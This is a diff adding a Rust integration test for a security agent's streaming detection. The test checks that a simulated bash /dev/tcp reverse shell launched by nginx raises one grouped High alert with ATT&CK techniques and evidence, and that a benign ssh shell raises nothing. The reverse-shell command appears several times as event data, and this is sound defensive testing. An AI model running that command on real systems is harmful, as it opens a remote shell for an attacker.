@@ -1,0 +1,157 @@
+//! Streaming detection: events a device uploads are evaluated against the built-in rules as
+//! they are stored; a reverse shell raises an alert with its ATT&CK techniques and evidence,
+//! a repeat is grouped into the same alert, and a benign look-alike raises nothing.
+
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+use vigil_schema::{Col, Row, Table, Timestamp};
+
+use crate::harness::{uplink, wait_until, Fixture};
+
+/// The id of a built-in rule, read from its file (the content is data, not code).
+fn rule_id(rel: &str) -> String {
+    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../content/rules/linux/").to_string() + rel;
+    let text = std::fs::read_to_string(&path).unwrap();
+    text.lines()
+        .find_map(|l| l.strip_prefix("id: "))
+        .unwrap_or_else(|| panic!("{path} has an id"))
+        .trim()
+        .to_string()
+}
+
+fn exec(image: &str, cmd: &str, parent: &str, user: &str) -> Row {
+    let mut r = Row::event(
+        Table::DeviceProcessEvents,
+        "ProcessCreated",
+        Timestamp::now(),
+    );
+    r.put(Col::FolderPath, image);
+    r.put(Col::FileName, image.rsplit('/').next().unwrap_or(image));
+    r.put(Col::ProcessCommandLine, cmd);
+    r.put(Col::InitiatingProcessFolderPath, parent);
+    r.put(
+        Col::InitiatingProcessFileName,
+        parent.rsplit('/').next().unwrap_or(parent),
+    );
+    r.put(Col::AccountName, user);
+    r.put(Col::ProcessId, 4242i64);
+    r
+}
+
+fn alerts(fx: &Fixture) -> Vec<Value> {
+    let (st, v) = fx.api.get("/api/v1/alerts");
+    assert_eq!(st, 200, "{v}");
+    v.as_array().cloned().unwrap_or_default()
+}
+
+#[test]
+fn a_reverse_shell_raises_one_grouped_alert_and_a_benign_shell_raises_none() {
+    let fx = Fixture::new("dev-detect");
+    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
+    let reverse_shell = rule_id("command_and_control/bash_dev_tcp_reverse_shell.yml");
+
+    // Benign first: an admin's interactive shell over ssh.
+    up.send(vec![exec(
+        "/usr/bin/bash",
+        "-bash",
+        "/usr/sbin/sshd",
+        "admin",
+    )]);
+    wait_until("the benign event stored", 30, || {
+        up.stats().events_acked == 1
+    });
+
+    let sent = Instant::now();
+    up.send(vec![exec(
+        "/usr/bin/bash",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "/usr/sbin/nginx",
+        "www-data",
+    )]);
+    let mut found = None;
+    wait_until("the reverse-shell alert", 30, || {
+        found = alerts(&fx)
+            .into_iter()
+            .find(|a| a["RuleId"] == reverse_shell.as_str());
+        found.is_some()
+    });
+    println!(
+        "event sent → alert visible in {} ms",
+        sent.elapsed().as_millis()
+    );
+    let a = found.unwrap();
+    assert_eq!(a["DeviceId"], "dev-detect");
+    assert_eq!(a["Severity"], "High");
+    assert_eq!(a["DetectionSource"], "Sigma");
+    assert_eq!(a["Status"], "New");
+    assert_eq!(a["Hits"], 1);
+    let techniques: Vec<&str> = a["AttackTechniques"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    assert!(
+        techniques.contains(&"T1059.004") && techniques.contains(&"T1095"),
+        "{techniques:?}"
+    );
+    let evidence = a["Evidence"].as_array().unwrap();
+    let has = |entity: &str, role: &str, key: &str, value: &str| {
+        evidence
+            .iter()
+            .any(|e| e["entity"] == entity && e["role"] == role && e[key] == value)
+    };
+    assert!(
+        has(
+            "Process",
+            "Related",
+            "ProcessCommandLine",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+        ),
+        "{evidence:?}"
+    );
+    assert!(
+        has("Process", "Parent", "FolderPath", "/usr/sbin/nginx"),
+        "{evidence:?}"
+    );
+    assert!(
+        has("User", "Related", "AccountName", "www-data"),
+        "{evidence:?}"
+    );
+    assert!(
+        has("Device", "Impacted", "DeviceId", "dev-detect"),
+        "{evidence:?}"
+    );
+
+    // The same behaviour again: grouped into the same alert.
+    up.send(vec![exec(
+        "/usr/bin/bash",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "/usr/sbin/nginx",
+        "www-data",
+    )]);
+    let id = a["AlertId"].as_str().unwrap().to_string();
+    wait_until("the second hit grouped", 30, || {
+        let (_, v) = fx.api.get(&format!("/api/v1/alerts/{id}"));
+        v["Hits"] == 2
+    });
+    std::thread::sleep(Duration::from_millis(300));
+    let all = alerts(&fx);
+    assert_eq!(
+        all.iter()
+            .filter(|a| a["RuleId"] == reverse_shell.as_str())
+            .count(),
+        1,
+        "one alert for the group"
+    );
+    // The benign shell raised nothing at all.
+    assert!(
+        all.iter()
+            .all(|a| a["Evidence"].to_string().contains("/dev/tcp/")),
+        "only the reverse shell alerted: {all:?}"
+    );
+    let (st, v) = fx.api.get("/api/v1/alerts/al_0000000000000000");
+    assert_eq!(st, 404, "{v}");
+    up.shutdown(Duration::from_secs(1));
+}
